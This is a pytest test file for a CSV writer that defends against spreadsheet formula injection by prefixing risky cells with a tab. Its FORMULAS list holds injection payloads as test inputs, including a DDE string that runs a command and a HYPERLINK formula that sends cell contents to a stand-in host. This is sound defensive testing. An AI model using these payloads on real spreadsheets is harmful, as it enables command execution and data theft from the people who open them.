"""A CSV file shows what people wrote, and computes nothing of it."""

import csv
import io

import pytest

from spelling import csv_files

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-1+1", "+cmd|'x'!A0", "-2+3+cmd|'x'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
    "=HYPERLINK(\"http://e.example/?\"&A1,\"x\")", "+31 6 1234=2", "-",
)  # fmt: skip


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_begins_with_a_tab_and_computes_nothing(value: str) -> None:
    ((cell,),) = read(csv_files.row([value]))
    assert cell.startswith("\t")
    assert "".join(cell.split()) == "".join(value.split())


@pytest.mark.parametrize("value", FORMULAS)
def test_nor_does_one_behind_the_separator_of_another_language(value: str) -> None:
    line = csv_files.row([f"a;{value}", f"b\n{value}"])
    for cells in read(line, ";"):
        for cell in cells:
            assert not cell.lstrip(" ").startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))


@pytest.mark.parametrize(
    "value",
    ["+31612345678", "+12025550123", "0612345678", "-12.50", "120.00", "a=1", "O'Brien", "7:30"],
)
def test_numbers_phones_and_names_stay_as_they_are(value: str) -> None:
    assert read(csv_files.row([value])) == [[value]]


def test_texts_with_quotes_commas_and_lines_come_back() -> None:
    cells = ['say "hi"', "a, b", "two\nlines", "ünï", ""]
    assert read(csv_files.rows([cells, cells])) == [cells, cells]


def test_nothing_is_an_empty_cell() -> None:
    assert csv_files.row([None, 1, True]) == ",1,True\r\n"
